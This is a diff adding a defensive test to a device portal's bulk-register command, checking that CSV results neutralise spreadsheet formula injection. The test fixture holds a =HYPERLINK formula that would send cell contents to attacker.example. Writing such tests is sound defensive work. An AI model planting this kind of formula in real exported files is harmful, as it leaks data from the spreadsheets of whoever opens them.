@@ -219,6 +219,27 @@ class TestBulkRegister:
             str(pk) for pk in Device.objects.values_list("pk", flat=True)
         }
 
+    def test_results_cannot_smuggle_a_formula_into_a_spreadsheet(
+        self, portal: Portal, capsys: Any, tmp_path: Path
+    ) -> None:
+        formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+        rows = [
+            {"name": formula, "hardware_id": "@SN-1", "key_type": "ec-p256"},
+            {"name": "+plus", "hardware_id": "-minus", "key_type": "ec-p256"},
+        ]
+        results = tmp_path / "results.csv"
+        code, _, _ = portal.run(
+            capsys, "bulk-register", str(write_csv(tmp_path / "in.csv", rows)), "--out", str(results)
+        )
+        assert code == 0
+        written = sorted(read_results(results), key=lambda row: int(row["line"]))
+        assert [(row["name"], row["hardware_id"]) for row in written] == [
+            ("'" + formula, "'@SN-1"),
+            ("'+plus", "'-minus"),
+        ]
+        assert all(row["status"] == "registered" and row["bundle_password"] for row in written)
+        assert Device.objects.filter(name=formula, hardware_id="@SN-1").exists()
+
 
 def test_profile_file_is_private_and_used(
     portal: Portal, capsys: Any, tmp_path: Path, monkeypatch: Any
